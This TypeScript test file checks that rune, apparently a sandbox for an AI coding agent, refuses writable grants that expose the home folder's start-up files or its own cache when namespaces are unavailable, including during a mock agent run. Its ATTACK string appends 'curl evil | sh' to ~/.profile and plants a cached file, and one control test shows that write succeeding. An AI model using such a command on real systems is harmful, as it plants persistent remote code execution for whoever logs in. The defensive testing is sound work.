// A writable grant that holds the home folder's start-up files or rune's own folder, tried through
// the built binary as an attacker would (ADR 0032, "Writable grants without a view"). Without
// namespaces (a container runtime's seccomp profile) Landlock cannot keep ~/.profile or rune's caches
// read-only inside such a grant, so rune refuses it before anything runs, unless the person accepts
// it with sandbox.accept_unprotected_grants (then the layer report says so and the write happens: the
// control that the exposure is real). A project folder keeps working; with namespaces the home
// folder may be granted and its start-up files stay read-only.
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type MockLlm, startMockLlm } from '../helpers/mock-llm.ts';
import { battleground, containerProblem, giveTo, runVariant, type Variant, variants } from './deputy-run.ts';

const ground = battleground('rune-deputy-home-');
let mock: MockLlm;

beforeAll(async () => {
  mock = await startMockLlm();
});

afterAll(async () => {
  await mock.close();
  ground.cleanup();
});

/** A fresh HOME holding a ~/.profile, a project folder in it, and rune's folder (~/.rune). */
function place(v: Variant, name: string) {
  const tag = `${v.mode}-${v.who}-${name}`;
  const home = ground.dir(`${tag}/home`, v.who);
  const project = ground.dir(`${tag}/home/src/project`, v.who);
  const runeFolder = ground.dir(`${tag}/home/.rune`, v.who);
  writeFileSync(join(home, '.profile'), 'ORIGINAL-PROFILE\n');
  giveTo(join(home, '.profile'), v.who);
  const env = { PATH: '/usr/bin:/bin', HOME: home, LANG: 'C.UTF-8' };
  return { tag, home, project, runeFolder, env };
}

const ATTACK =
  'echo "curl evil | sh" >> "$HOME/.profile"; echo planted > "$HOME/.rune/code-cache"; echo wrote';

const profile = (home: string) => readFileSync(join(home, '.profile'), 'utf8');

for (const v of variants().filter((x) => x.mode === 'container')) {
  describe.skipIf(containerProblem() !== undefined)(`writable grants without namespaces (${v.label})`, () => {
    it('refuses a writable grant of the home folder: nothing runs, ~/.profile and rune’s folder untouched', async () => {
      const { home, project, env } = place(v, 'home');
      const r = await runVariant(v, {
        args: ['sandbox', '--allow-write', home, '--', '/bin/sh', '-c', ATTACK],
        cwd: project,
        env,
      });
      expect(r.code).toBe(8);
      expect(r.stdout).not.toContain('wrote');
      expect(r.stderr).toContain(`writable grant ${home} holds`);
      expect(r.stderr).toContain('.profile');
      expect(r.stderr).toContain('sandbox.accept_unprotected_grants = true');
      expect(profile(home)).toBe('ORIGINAL-PROFILE\n');
      expect(existsSync(join(home, '.rune/code-cache'))).toBe(false);
    });

    it('refuses a grant that holds the home folder (its parent), and one holding RUNE_HOME outside it', async () => {
      const { tag, home, project, env } = place(v, 'parent');
      const parent = join(home, '..');
      const r = await runVariant(v, {
        args: ['sandbox', '--allow-write', parent, '--', '/bin/sh', '-c', ATTACK],
        cwd: project,
        env,
      });
      expect(r.code).toBe(8);
      expect(r.stderr).toContain('the home folder');
      expect(profile(home)).toBe('ORIGINAL-PROFILE\n');
      // rune's folder moved out of the home (RUNE_HOME) is protected as well.
      const outside = ground.dir(`${tag}/elsewhere`, v.who);
      const moved = ground.dir(`${tag}/elsewhere/rune-home`, v.who);
      const s = await runVariant(v, {
        args: [
          'sandbox',
          '--allow-write',
          outside,
          '--',
          '/bin/sh',
          '-c',
          `echo planted > ${moved}/code-cache`,
        ],
        cwd: project,
        env: { ...env, RUNE_HOME: moved },
      });
      expect(s.code).toBe(8);
      expect(s.stderr).toContain(`${moved} (rune's own folder`);
      expect(existsSync(join(moved, 'code-cache'))).toBe(false);
    });

    it('runs a project folder grant as before', async () => {
      const { home, project, env } = place(v, 'project');
      const r = await runVariant(v, {
        args: [
          'sandbox',
          '--allow-write',
          project,
          '--',
          '/bin/sh',
          '-c',
          'echo made > built.txt && echo built',
        ],
        cwd: project,
        env,
      });
      expect(r.code).toBe(0);
      expect(r.stdout).toContain('built');
      expect(readFileSync(join(project, 'built.txt'), 'utf8')).toBe('made\n');
      expect(profile(home)).toBe('ORIGINAL-PROFILE\n');
    });

    it('runs the home grant when the person accepts it, and the layer report says so', async () => {
      const { home, project, runeFolder, env } = place(v, 'accepted');
      writeFileSync(join(runeFolder, 'rune.toml'), '[sandbox]\naccept_unprotected_grants = true\n');
      giveTo(join(runeFolder, 'rune.toml'), v.who);
      const r = await runVariant(v, {
        args: ['sandbox', '--layers', '--allow-write', home, '--', '/bin/sh', '-c', ATTACK],
        cwd: project,
        env,
      });
      expect(r.code).toBe(0);
      expect(r.stdout).toContain('wrote');
      expect(r.stderr).toContain(`accepted by sandbox.accept_unprotected_grants`);
      expect(r.stderr).toContain(`writable grant ${home} holds`);
      // The control: the exposure is real once accepted.
      expect(profile(home)).toContain('curl evil');
    });

    it('an agent run with the home folder in allowed_paths_rw: the command is refused, the model and the person told why', async () => {
      const { home, project, runeFolder, env } = place(v, 'agent');
      // The repository's own allow-listed script, which appends to ~/.profile.
      writeFileSync(join(project, 'setup.sh'), `#!/bin/sh\n${ATTACK}\n`, { mode: 0o755 });
      giveTo(join(project, 'setup.sh'), v.who);
      writeFileSync(
        join(runeFolder, 'rune.toml'),
        `[policy]\nallowed_commands = ["./setup.sh"]\nallowed_paths_rw = ["${home}"]\n`,
      );
      giveTo(join(runeFolder, 'rune.toml'), v.who);
      mock.script([
        { toolCalls: [{ name: 'execute_cmd', arguments: { cmd: './setup.sh' } }] },
        { text: 'done' },
      ]);
      const from = mock.requests.length;
      const r = await runVariant(v, {
        args: ['--base-url', mock.baseUrl, '--api-key', 'sk-test-home', '--model', 'm', 'go'],
        cwd: project,
        env,
      });
      const seen = JSON.stringify(mock.requests.slice(from).map((req) => req.body?.messages));
      expect(seen).toContain(`writable grant ${home} holds`);
      expect(seen).not.toContain('wrote');
      // The person's terminal shows the call's error line (the model got the whole message).
      expect(r.stderr).toContain('execute_cmd failed: without namespaces');
      expect(r.stdout).toContain('done');
      expect(profile(home)).toBe('ORIGINAL-PROFILE\n');
      expect(existsSync(join(home, '.rune/code-cache'))).toBe(false);
    });
  });
}

for (const v of variants().filter((x) => x.mode === 'host')) {
  describe(`writable grants with namespaces (${v.label})`, () => {
    it('a writable home folder runs, its start-up files read-only in the view', async () => {
      const { home, project, env } = place(v, 'view');
      const r = await runVariant(v, {
        args: [
          'sandbox',
          '--allow-write',
          home,
          '--',
          '/bin/sh',
          '-c',
          `echo new > ${home}/notes.txt; ${ATTACK}`,
        ],
        cwd: project,
        env,
      });
      expect(r.code).toBe(0);
      expect(readFileSync(join(home, 'notes.txt'), 'utf8')).toBe('new\n');
      expect(profile(home)).toBe('ORIGINAL-PROFILE\n');
    });
  });
}
